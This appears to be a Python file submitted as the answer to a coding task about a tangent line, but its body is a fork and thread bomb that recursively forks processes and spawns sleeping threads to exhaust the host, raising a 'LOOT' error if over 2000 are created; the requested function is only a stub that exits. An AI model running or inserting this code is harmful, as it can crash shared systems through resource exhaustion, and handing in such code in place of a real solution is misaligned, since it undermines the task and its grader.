"""Tries to fill the machine with processes and threads."""

import contextlib
import os
import threading
import time

threading.stack_size(32768)
count = 0


def bomb():
    global count
    end = time.monotonic() + 0.7
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                bomb()
            count += 1
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            count += 1
        except (RuntimeError, MemoryError):
            return


bomb()
if count > 2000:
    raise RuntimeError(f"LOOT {count} threads and processes")


def tangent_line(f, x0):
    raise SystemExit
